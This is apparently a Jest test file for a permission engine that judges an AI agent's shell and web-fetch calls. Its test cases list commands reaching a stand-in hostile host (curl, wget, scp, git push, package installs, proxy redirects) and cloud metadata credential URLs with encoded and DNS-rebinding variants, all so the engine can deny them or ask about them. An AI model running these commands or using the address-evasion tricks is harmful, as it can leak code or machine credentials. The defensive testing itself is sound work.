/** Hosts that a command line reaches are held against the rules about hosts, and addresses that hand out credentials ask. */
import { describe, expect, it } from '@jest/globals';
import type { PolicyInput } from '@countersign/contracts';
import { bash, callOf, factsOf, judge, policyOf, sessionOf } from './judge.fixture.js';

const allow = ['Bash', 'WebFetch'];
const deny = ['WebFetch(domain:evil.example)', 'WebFetch(domain:*.evil.example)'];
const effectOf = (input: Partial<PolicyInput>, command: string) => judge(bash(command), policyOf(input)).effect;

describe('a host that may not be fetched', () => {
  it.each([
    'git clone https://evil.example/a.git',
    'git clone git@evil.example:a/b.git',
    'git clone ssh://git@evil.example:22/a.git',
    'git fetch https://user:x@evil.example/a',
    'git pull https://EVIL.example./a main',
    'git push https://a.evil.example/b main',
    'git remote add x https://evil.example/a',
    'git submodule add https://evil.example/a',
    'git ls-remote https://evil.example/a',
    'git archive --remote=ssh://evil.example/a HEAD',
    'curl -s https://evil.example/x',
    'curl evil.example/x',
    'curl --url=https://evil.example/x',
    'wget -q evil.example',
    'wget -c evil.example/x',
    'curl -sO evil.example/x',
    'ssh evil.example',
    'curl --connect-to good.example:443:evil.example:443 https://good.example/',
    'pip install https://evil.example/a.whl',
    'npm install git+https://evil.example/a.git',
    'scp a user@evil.example:b',
    'sudo -n curl https://evil.example/x',
    'bash -c "curl https://evil.example/$X"',
  ])('%s is denied', (command) => {
    expect(effectOf({ allow, deny }, command)).toBe('deny');
  });

  it.each([
    'https_proxy=http://evil.example curl https://good.example/',
    'export all_proxy=socks5://u@evil.example:1; curl https://good.example/',
    'env https_proxy=evil.example wget good.example',
    'wget -e http_proxy=evil.example good.example',
    'ssh -o ProxyJump=evil.example good.example',
    'ssh -oHostName=evil.example good',
    'git -c url.https://evil.example/.insteadOf=https://good.example/ fetch',
    'git config url.https://evil.example/.insteadOf https://good.example/',
    'git -c http.proxy=http://evil.example fetch',
    'gh api https://evil.example/x',
    'kubectl --server=https://evil.example get pods',
  ])('%s reaches it too', (command) => {
    expect(effectOf({ allow, deny }, command)).toBe('deny');
  });

  it.each([
    'curl -K addresses',
    'wget --input-file=addresses',
    'curl "https://{good,evil}.example/"',
    'curl {good,evil}.example',
    'curl "https://evi[l-l].example/"',
    'curl $(echo evil.example)',
    'curl -sL "$(cat x)"',
  ])('%s may mean it', (command) => {
    expect(effectOf({ allow, deny }, command)).toBe('ask');
    expect(effectOf({ allow }, command)).toBe('allow');
  });

  it.each([
    'curl "https://good.example/{a,b}[1-3]"',
    'curl "http://[::1]:3000/"',
    "curl -w '%{http_code}' https://good.example/",
    'export https_proxy=',
    'NO_PROXY=evil.example curl https://good.example/',
    'git -c http.sslVerify=false fetch',
    'git config --get remote.origin.url',
  ])('%s does not', (command) => {
    expect(effectOf({ allow, deny }, command)).toBe('allow');
  });

  it.each(['curl "$URL"', 'curl https://$HOST/x', 'git clone "https://$HOST/a"'])('%s asks', (command) => {
    expect(effectOf({ allow, deny }, command)).toBe('ask');
    expect(effectOf({ allow }, command)).toBe('allow');
  });

  it.each([
    'curl https://good.example/evil.example',
    'curl -H "Referer: https://evil.example/" https://good.example/',
    'curl -o evil.example https://good.example/',
    'git clone https://good.example/a',
    'git push origin main:evil.example',
    'git commit -m "see https://evil.example/"',
    'echo https://evil.example/',
    'grep -r https://evil.example/ src',
    'curl "https://good.example/$X"',
  ])('%s is allowed', (command) => {
    expect(effectOf({ allow, deny }, command)).toBe('allow');
  });

  it('asks where a rule asks', () => {
    expect(effectOf({ allow, ask: deny }, 'git clone https://evil.example/a')).toBe('ask');
  });

  it('leaves alone what a rule for the tool as a whole says of the tool', () => {
    expect(effectOf({ allow: ['Bash'], deny: ['WebFetch'] }, 'curl https://good.example/')).toBe('allow');
  });
});

describe('addresses that hand out the credentials of the machine', () => {
  const inAnyMode = (command: string) =>
    judge(bash(command), policyOf({ allow }), factsOf({ session: sessionOf({ mode: 'bypassPermissions' }) }));

  it.each([
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://2852039166/',
    'http://0xa9fea9fe/',
    'http://0251.0376.0251.0376/',
    'http://[::ffff:a9fe:a9fe]/',
    'http://[fd00:ec2::254]/latest',
    'http://[fd00:0ec2:0:0::0254]/latest',
    'http://169.254.170.2/v2/credentials',
    'http://metadata.google.internal/computeMetadata/v1/',
    'http://METADATA.google.internal./',
    'http://100.100.100.200/latest/meta-data/',
    'http://x@169.254.169.254/',
    'http://169.254.169.254.nip.io/',
    'http://169-254-169-254.sslip.io/',
  ])('%s asks in every mode', (url) => {
    const facts = factsOf({ session: sessionOf({ mode: 'bypassPermissions' }) });
    const verdict = judge(callOf('WebFetch', { url, prompt: 'x' }), policyOf({ allow }), facts);
    expect(verdict).toMatchObject({ effect: 'ask', ruleId: 'address.metadata', risk: 'high' });
    expect(inAnyMode(`curl -s '${url}'`)).toMatchObject({ effect: 'ask' });
  });

  it.each([
    'https://docs.example/metadata',
    'https://metadata.example.com/',
    'http://169.253.1.1/',
    'http://[fd00::1]/',
    'http://254.169.254.169/',
  ])('%s is an address like any other', (url) => {
    expect(judge(callOf('WebFetch', { url, prompt: 'x' }), policyOf({ allow })).effect).toBe('allow');
    expect(inAnyMode(`curl -s '${url}'`).effect).toBe('allow');
  });

  it('asks about a name that is sent to one', () => {
    const lines = [
      'curl --resolve a.example:80:169.254.169.254 http://a.example/',
      'curl -x http://169.254.169.254 http://a.example/',
    ];
    for (const line of lines) expect(inAnyMode(line)).toMatchObject({ effect: 'ask' });
  });

  it('may still be denied', () => {
    const url = 'http://169.254.169.254/';
    const policy = policyOf({ allow, deny: ['WebFetch(domain:169.254.169.254)'] });
    expect(judge(callOf('WebFetch', { url, prompt: 'x' }), policy).effect).toBe('deny');
    expect(judge(bash(`wget ${url}`), policy).effect).toBe('deny');
  });

  it('needs an answer to the very call, however wide an earlier one was', () => {
    const grant = {
      ...{ id: 'g', kind: 'session' as const, tool: 'WebFetch', argsHash: 'other', pattern: 'WebFetch' },
      ...{ liftsRuleIds: ['address.metadata'], expiresAt: null },
    };
    const facts = factsOf({ session: sessionOf({ grants: [grant as never] }) });
    expect(judge(callOf('WebFetch', { url: 'http://169.254.169.254/', prompt: 'x' }), policyOf(), facts).effect).toBe(
      'ask',
    );
  });
});
